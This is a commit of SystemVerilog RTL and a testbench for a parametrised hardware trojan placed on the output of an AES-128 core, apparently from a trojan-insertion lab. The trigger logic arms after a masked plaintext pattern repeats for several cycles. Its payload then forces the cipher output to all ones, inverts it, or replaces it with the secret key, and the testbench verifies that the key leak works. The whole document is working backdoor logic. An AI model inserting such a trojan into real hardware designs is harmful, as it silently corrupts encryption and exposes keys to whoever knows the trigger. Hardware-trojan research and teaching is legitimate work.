ht_trigger_payload: RTL and testbench

- Parametrised successor to the fixed 5-bit / Q=4 plaintext-triggered trojan used around aes_128 in the insertion lab.
- Monitors the AES input bus for a masked bit pattern held for Q consecutive valid cycles, then arms a payload.
- The payload corrupts or leaks through the AES output path.
- Sits between aes_128 "out" and the top-level output; configurable width, trigger pattern, depth Q, payload mode and sticky/timed activation.

---
 rtl/ht_pkg.sv | 21 ++
 rtl/ht_seq_detect.sv | 104 ++++++++++
 rtl/ht_trigger_payload.sv | 68 ++++++
 tb/tb_ht_trigger_payload.sv | 327 ++++++++++++++++++++++++++++++++
 4 files changed

// File: rtl/ht_pkg.sv
// Shared types and constants for the plaintext-triggered payload block.
package ht_pkg;

  // Trigger FSM states.
  typedef enum logic [1:0] {
    IDLE   = 2'd0,
    COUNT  = 2'd1,
    ACTIVE = 2'd2
  } ht_state_e;

  // Payload modes applied to the output path while the trigger is active.
  localparam int unsigned PL_ONES = 0;  // force all ones
  localparam int unsigned PL_INV  = 1;  // bitwise invert of core_out
  localparam int unsigned PL_KEY  = 2;  // leak key_in

  // Default trigger mask: plaintext bits 125, 84, 77, 59 and 40.
  localparam logic [127:0] HT_TRIG_MASK_DEFAULT = (128'd1 << 125) | (128'd1 << 84) |
                                                  (128'd1 << 77)  | (128'd1 << 59) |
                                                  (128'd1 << 40);

endpackage

// File: rtl/ht_seq_detect.sv
// Masked-pattern compare, consecutive-match counter and trigger FSM.
// Valid/ready note: there is no back-pressure; in_valid qualifies in_data on
// every rising clk edge and cycles with in_valid low are simply skipped.
module ht_seq_detect
  import ht_pkg::*;
#(
  parameter int unsigned      WIDTH      = 128,
  parameter int unsigned      Q          = 4,
  parameter logic [WIDTH-1:0] TRIG_MASK  = WIDTH'(HT_TRIG_MASK_DEFAULT),
  parameter logic [WIDTH-1:0] TRIG_VALUE = TRIG_MASK,
  parameter int unsigned      STICKY     = 1,
  parameter int unsigned      HOLD       = 16
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             in_valid,
  input  logic [WIDTH-1:0] in_data,
  output logic             active,
  output logic [7:0]       match_cnt,
  output ht_state_e        state
);

  // Reject illegal depth and hold values at elaboration.
  if (Q < 1 || Q > 255) begin : g_bad_q
    $error("ht_seq_detect: Q must be in 1..255");
  end
  if (HOLD < 1) begin : g_bad_hold
    $error("ht_seq_detect: HOLD must be at least 1");
  end

  localparam int unsigned CW = $clog2(Q + 1);
  localparam int unsigned HW = $clog2(HOLD + 1);

  localparam logic [CW-1:0] CNT_LAST  = CW'(Q - 1);
  localparam logic [CW-1:0] CNT_SAT   = CW'(Q);
  localparam logic [HW-1:0] HOLD_LOAD = HW'(HOLD);
  localparam logic [HW-1:0] HOLD_ONE  = HW'(1);

  ht_state_e     state_q;
  ht_state_e     state_d;
  logic [CW-1:0] cnt_q;
  logic [HW-1:0] hold_q;
  logic          match;

  // Bits outside the mask never influence the match.
  assign match = in_valid & ((in_data & TRIG_MASK) == (TRIG_VALUE & TRIG_MASK));

  // State register.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) state_q <= IDLE;
    else        state_q <= state_d;
  end

  // Next-state logic: count matches, fire on the Q-th, leave ACTIVE only in timed mode.
  always_comb begin
    state_d = state_q;
    unique case (state_q)
      IDLE: begin
        if (match) state_d = (Q == 1) ? ACTIVE : COUNT;
      end
      COUNT: begin
        if (match && (cnt_q == CNT_LAST)) state_d = ACTIVE;
        else if (in_valid && !match)      state_d = IDLE;
      end
      ACTIVE: begin
        if ((STICKY == 0) && (hold_q == HOLD_ONE)) state_d = IDLE;
      end
      default: state_d = IDLE;
    endcase
  end

  // FSM outputs: active is a direct decode of the registered state.
  always_comb begin
    active = (state_q == ACTIVE);
    state  = state_q;
  end

  // Consecutive-match counter: saturates at Q while active, cleared on exit or mismatch.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      cnt_q <= '0;
    end else if (state_q == ACTIVE) begin
      cnt_q <= (state_d == IDLE) ? '0 : CNT_SAT;
    end else if (match) begin
      cnt_q <= cnt_q + CW'(1);
    end else if (in_valid) begin
      cnt_q <= '0;
    end
  end

  // Hold counter: loaded on entry to ACTIVE, counts down only in timed mode.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      hold_q <= '0;
    end else if ((state_q != ACTIVE) && (state_d == ACTIVE)) begin
      hold_q <= HOLD_LOAD;
    end else if ((state_q == ACTIVE) && (STICKY == 0) && (hold_q != '0)) begin
      hold_q <= hold_q - HW'(1);
    end
  end

  assign match_cnt = 8'(cnt_q);

endmodule

// File: rtl/ht_trigger_payload.sv
// Plaintext-triggered payload stage placed between the AES core output and the
// top-level output. Clean data passes with one cycle of latency; once the
// trigger fires, the selected payload replaces core_out.
module ht_trigger_payload
  import ht_pkg::*;
#(
  parameter int unsigned      WIDTH      = 128,
  parameter int unsigned      Q          = 4,
  parameter logic [WIDTH-1:0] TRIG_MASK  = WIDTH'(HT_TRIG_MASK_DEFAULT),
  parameter logic [WIDTH-1:0] TRIG_VALUE = TRIG_MASK,
  parameter int unsigned      MODE       = PL_ONES,
  parameter int unsigned      STICKY     = 1,
  parameter int unsigned      HOLD       = 16
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             in_valid,
  input  logic [WIDTH-1:0] in_data,
  input  logic [WIDTH-1:0] key_in,
  input  logic [WIDTH-1:0] core_out,
  output logic [WIDTH-1:0] out_data,
  output logic             triggered,
  output logic [7:0]       match_cnt
);

  // Reject unknown payload modes at elaboration.
  if (MODE > PL_KEY) begin : g_bad_mode
    $error("ht_trigger_payload: MODE must be 0, 1 or 2");
  end

  logic             active;
  ht_state_e        seq_state;
  logic [WIDTH-1:0] payload;

  ht_seq_detect #(
    .WIDTH      (WIDTH),
    .Q          (Q),
    .TRIG_MASK  (TRIG_MASK),
    .TRIG_VALUE (TRIG_VALUE),
    .STICKY     (STICKY),
    .HOLD       (HOLD)
  ) u_seq (
    .clk       (clk),
    .rst_n     (rst_n),
    .in_valid  (in_valid),
    .in_data   (in_data),
    .active    (active),
    .match_cnt (match_cnt),
    .state     (seq_state)
  );

  assign triggered = (seq_state == ACTIVE);

  // Payload selection for the configured mode.
  always_comb begin
    payload = '1;
    if (MODE == PL_INV)      payload = ~core_out;
    else if (MODE == PL_KEY) payload = key_in;
  end

  // Output register: payload while ACTIVE at the sampling edge, otherwise clean data.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n)      out_data <= '0;
    else if (active) out_data <= payload;
    else             out_data <= core_out;
  end

endmodule

// File: tb/tb_ht_trigger_payload.sv
// Bench for ht_trigger_payload: three instances share one stimulus stream
// (defaults / timed+invert / key leak) and are compared each cycle against a
// behavioural model plus literal expectations for the directed scenarios.
module tb_ht_trigger_payload;

  localparam int N  = 3;
  localparam int QV = 4;
  localparam logic [127:0] TRIG   = (128'd1 << 125) | (128'd1 << 84) | (128'd1 << 77) |
                                    (128'd1 << 59)  | (128'd1 << 40);
  localparam logic [127:0] NORMAL = 128'h0123_4567_89ab_cdef_0123_4567_89ab_cdef;
  localparam logic [127:0] KEY    = 128'h1111_2222_3333_4444_5555_6666_7777_8888;
  localparam logic [127:0] ONES   = {128{1'b1}};

  int cfg_sticky [N] = '{1, 0, 1};
  int cfg_hold   [N] = '{16, 3, 16};
  int cfg_mode   [N] = '{0, 1, 2};

  logic         clk;
  logic         rst_n;
  logic         in_valid;
  logic [127:0] in_data;
  logic [127:0] key_in;
  logic [127:0] core_out;
  logic [127:0] out_data  [N];
  logic         triggered [N];
  logic [7:0]   match_cnt [N];

  int n_tests;
  int n_fail;

  // ---------------- clock / reset ----------------
  initial clk = 1'b0;
  always #5 clk = ~clk;

  // ---------------- DUTs ----------------
  ht_trigger_payload dut0 (
    .clk(clk), .rst_n(rst_n), .in_valid(in_valid), .in_data(in_data), .key_in(key_in),
    .core_out(core_out), .out_data(out_data[0]), .triggered(triggered[0]), .match_cnt(match_cnt[0])
  );

  ht_trigger_payload #(.MODE(1), .STICKY(0), .HOLD(3)) dut1 (
    .clk(clk), .rst_n(rst_n), .in_valid(in_valid), .in_data(in_data), .key_in(key_in),
    .core_out(core_out), .out_data(out_data[1]), .triggered(triggered[1]), .match_cnt(match_cnt[1])
  );

  ht_trigger_payload #(.MODE(2)) dut2 (
    .clk(clk), .rst_n(rst_n), .in_valid(in_valid), .in_data(in_data), .key_in(key_in),
    .core_out(core_out), .out_data(out_data[2]), .triggered(triggered[2]), .match_cnt(match_cnt[2])
  );

  // ---------------- reference model ----------------
  // Behaviour in plain terms: a run length of matching valid words, a fired
  // flag, and a remaining-cycles budget for timed mode.
  logic         tb_match;
  int           m_cnt  [N];
  logic         m_act  [N];
  int           m_hold [N];
  logic [127:0] m_out  [N];

  assign tb_match = in_valid && ((in_data & TRIG) == TRIG);

  always @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      for (int i = 0; i < N; i++) begin
        m_cnt[i]  <= 0;
        m_act[i]  <= 1'b0;
        m_hold[i] <= 0;
        m_out[i]  <= '0;
      end
    end else begin
      for (int i = 0; i < N; i++) begin
        if (!m_act[i])          m_out[i] <= core_out;
        else if (cfg_mode[i] == 0) m_out[i] <= ONES;
        else if (cfg_mode[i] == 1) m_out[i] <= ~core_out;
        else                       m_out[i] <= key_in;

        if (m_act[i]) begin
          if (cfg_sticky[i] == 0) begin
            if (m_hold[i] == 1) begin
              m_act[i] <= 1'b0;
              m_cnt[i] <= 0;
            end else begin
              m_hold[i] <= m_hold[i] - 1;
            end
          end
        end else if (tb_match) begin
          if (m_cnt[i] + 1 == QV) begin
            m_act[i]  <= 1'b1;
            m_hold[i] <= cfg_hold[i];
          end
          m_cnt[i] <= m_cnt[i] + 1;
        end else if (in_valid) begin
          m_cnt[i] <= 0;
        end
      end
    end
  end

  // ---------------- driver tasks ----------------
  task automatic do_reset();
    in_valid = 1'b0;
    rst_n    = 1'b0;
    @(posedge clk);
    #1;
    rst_n = 1'b1;
  endtask

  task automatic drive(input logic v, input logic [127:0] d);
    in_valid = v;
    in_data  = d;
    core_out = {$urandom, $urandom, $urandom, $urandom};
    @(posedge clk);
    #1;
  endtask

  // ---------------- tests ----------------
  task automatic test_reset();
    rst_n = 1'b0;
    @(posedge clk);
    #1;
    for (int i = 0; i < N; i++) begin
      n_tests++;
      if (out_data[i] !== '0) begin
        n_fail++; $display("FAIL reset_out[%0d] got %h exp 0", i, out_data[i]);
      end
      n_tests++;
      if (triggered[i] !== 1'b0) begin
        n_fail++; $display("FAIL reset_trig[%0d] got %b exp 0", i, triggered[i]);
      end
      n_tests++;
      if (match_cnt[i] !== 8'd0) begin
        n_fail++; $display("FAIL reset_cnt[%0d] got %0d exp 0", i, match_cnt[i]);
      end
    end
    rst_n = 1'b1;
  endtask

  task automatic test_normal();
    do_reset();
    for (int k = 0; k < 10; k++) begin
      drive(1'b1, NORMAL);
      n_tests++;
      if (out_data[0] !== core_out) begin
        n_fail++; $display("FAIL normal_out cyc %0d got %h exp %h", k, out_data[0], core_out);
      end
      n_tests++;
      if (triggered[0] !== 1'b0) begin
        n_fail++; $display("FAIL normal_trig cyc %0d got %b exp 0", k, triggered[0]);
      end
      for (int i = 0; i < N; i++) begin
        n_tests++;
        if (out_data[i] !== m_out[i] || triggered[i] !== m_act[i] || match_cnt[i] !== 8'(m_cnt[i])) begin
          n_fail++; $display("FAIL normal_model[%0d] got %h/%b/%0d exp %h/%b/%0d", i,
                             out_data[i], triggered[i], match_cnt[i], m_out[i], m_act[i], m_cnt[i]);
        end
      end
    end
  endtask

  task automatic test_trigger();
    int exp_cnt [4] = '{1, 2, 3, 4};
    logic exp_trig [4] = '{1'b0, 1'b0, 1'b0, 1'b1};
    do_reset();
    for (int k = 0; k < 4; k++) begin
      drive(1'b1, TRIG);
      n_tests++;
      if (match_cnt[0] !== 8'(exp_cnt[k]) || triggered[0] !== exp_trig[k]) begin
        n_fail++; $display("FAIL trig_seq step %0d got %0d/%b exp %0d/%b", k,
                           match_cnt[0], triggered[0], exp_cnt[k], exp_trig[k]);
      end
    end
    for (int k = 0; k < 100; k++) begin
      drive(1'b1, NORMAL);
      n_tests++;
      if (triggered[0] !== 1'b1 || out_data[0] !== ONES || match_cnt[0] !== 8'd4) begin
        n_fail++; $display("FAIL trig_hold cyc %0d got %b/%h/%0d exp 1/%h/4", k,
                           triggered[0], out_data[0], match_cnt[0], ONES);
      end
      for (int i = 0; i < N; i++) begin
        n_tests++;
        if (out_data[i] !== m_out[i] || triggered[i] !== m_act[i] || match_cnt[i] !== 8'(m_cnt[i])) begin
          n_fail++; $display("FAIL trig_model[%0d] got %h/%b/%0d exp %h/%b/%0d", i,
                             out_data[i], triggered[i], match_cnt[i], m_out[i], m_act[i], m_cnt[i]);
        end
      end
    end
  endtask

  task automatic test_broken();
    logic [127:0] words [7] = '{TRIG, TRIG, TRIG, NORMAL, TRIG, TRIG, TRIG};
    int exp_cnt [7] = '{1, 2, 3, 0, 1, 2, 3};
    do_reset();
    for (int k = 0; k < 7; k++) begin
      drive(1'b1, words[k]);
      n_tests++;
      if (match_cnt[0] !== 8'(exp_cnt[k]) || triggered[0] !== 1'b0) begin
        n_fail++; $display("FAIL broken step %0d got %0d/%b exp %0d/0", k,
                           match_cnt[0], triggered[0], exp_cnt[k]);
      end
    end
  endtask

  task automatic test_gaps();
    logic v_pat [8] = '{1'b1, 1'b0, 1'b1, 1'b0, 1'b0, 1'b1, 1'b0, 1'b1};
    int exp_cnt [8] = '{1, 1, 2, 2, 2, 3, 3, 4};
    do_reset();
    for (int k = 0; k < 8; k++) begin
      if (v_pat[k]) drive(1'b1, TRIG);
      else          drive(1'b0, $urandom_range(0, 1) ? TRIG : {$urandom, $urandom, $urandom, $urandom});
      n_tests++;
      if (match_cnt[0] !== 8'(exp_cnt[k]) || triggered[0] !== (k == 7)) begin
        n_fail++; $display("FAIL gaps step %0d got %0d/%b exp %0d/%b", k,
                           match_cnt[0], triggered[0], exp_cnt[k], (k == 7));
      end
    end
  endtask

  task automatic test_hold();
    int   high;
    logic prev_t;
    do_reset();
    for (int k = 0; k < 4; k++) drive(1'b1, TRIG);
    n_tests++;
    if (triggered[1] !== 1'b1) begin
      n_fail++; $display("FAIL hold_fire got %b exp 1", triggered[1]);
    end
    high = (triggered[1] === 1'b1) ? 1 : 0;
    for (int k = 0; k < 8; k++) begin
      prev_t = triggered[1];
      drive(1'b1, $urandom_range(0, 1) ? TRIG : NORMAL);
      if (triggered[1] === 1'b1) high++;
      n_tests++;
      if (out_data[1] !== (prev_t ? ~core_out : core_out)) begin
        n_fail++; $display("FAIL hold_out cyc %0d got %h exp %h", k, out_data[1],
                           prev_t ? ~core_out : core_out);
      end
      n_tests++;
      if (out_data[1] !== m_out[1] || triggered[1] !== m_act[1] || match_cnt[1] !== 8'(m_cnt[1])) begin
        n_fail++; $display("FAIL hold_model got %h/%b/%0d exp %h/%b/%0d",
                           out_data[1], triggered[1], match_cnt[1], m_out[1], m_act[1], m_cnt[1]);
      end
    end
    n_tests++;
    if (high != 3) begin
      n_fail++; $display("FAIL hold_len got %0d cycles exp 3", high);
    end
    drive(1'b1, NORMAL);
    for (int k = 0; k < 4; k++) drive(1'b1, TRIG);
    n_tests++;
    if (triggered[1] !== 1'b1 || match_cnt[1] !== 8'd4) begin
      n_fail++; $display("FAIL hold_refire got %b/%0d exp 1/4", triggered[1], match_cnt[1]);
    end
  endtask

  task automatic test_key_reset();
    do_reset();
    key_in = KEY;
    for (int k = 0; k < 4; k++) drive(1'b1, TRIG);
    n_tests++;
    if (triggered[2] !== 1'b1) begin
      n_fail++; $display("FAIL key_fire got %b exp 1", triggered[2]);
    end
    drive(1'b1, NORMAL);
    n_tests++;
    if (out_data[2] !== KEY) begin
      n_fail++; $display("FAIL key_leak got %h exp %h", out_data[2], KEY);
    end
    // Pulse reset between edges; outputs must clear without a clock edge.
    #2;
    rst_n = 1'b0;
    #1;
    for (int i = 0; i < N; i++) begin
      n_tests++;
      if (out_data[i] !== '0 || triggered[i] !== 1'b0 || match_cnt[i] !== 8'd0) begin
        n_fail++; $display("FAIL async_rst[%0d] got %h/%b/%0d exp 0/0/0", i,
                           out_data[i], triggered[i], match_cnt[i]);
      end
    end
    @(posedge clk);
    #1;
    rst_n = 1'b1;
  endtask

  task automatic test_random();
    logic         v;
    logic [127:0] d;
    do_reset();
    for (int k = 0; k < 600; k++) begin
      rst_n  = ($urandom_range(0, 49) != 0);
      key_in = {$urandom, $urandom, $urandom, $urandom};
      v      = ($urandom_range(0, 9) < 7);
      d      = {$urandom, $urandom, $urandom, $urandom};
      if ($urandom_range(0, 9) < 6) d = d | TRIG;
      drive(v, d);
      for (int i = 0; i < N; i++) begin
        n_tests++;
        if (out_data[i] !== m_out[i] || triggered[i] !== m_act[i] || match_cnt[i] !== 8'(m_cnt[i])) begin
          n_fail++; $display("FAIL rand_model[%0d] cyc %0d got %h/%b/%0d exp %h/%b/%0d", i, k,
                             out_data[i], triggered[i], match_cnt[i], m_out[i], m_act[i], m_cnt[i]);
        end
      end
    end
    rst_n = 1'b1;
  endtask

  // ---------------- sequence and report ----------------
  initial begin
    n_tests  = 0;
    n_fail   = 0;
    rst_n    = 1'b0;
    in_valid = 1'b0;
    in_data  = '0;
    core_out = '0;
    key_in   = KEY;
    test_reset();
    test_normal();
    test_trigger();
    test_broken();
    test_gaps();
    test_hold();
    test_key_reset();
    test_random();
    $display("[TB] %0d tests run, %0d failed", n_tests, n_fail);
    $finish;
  end

endmodule
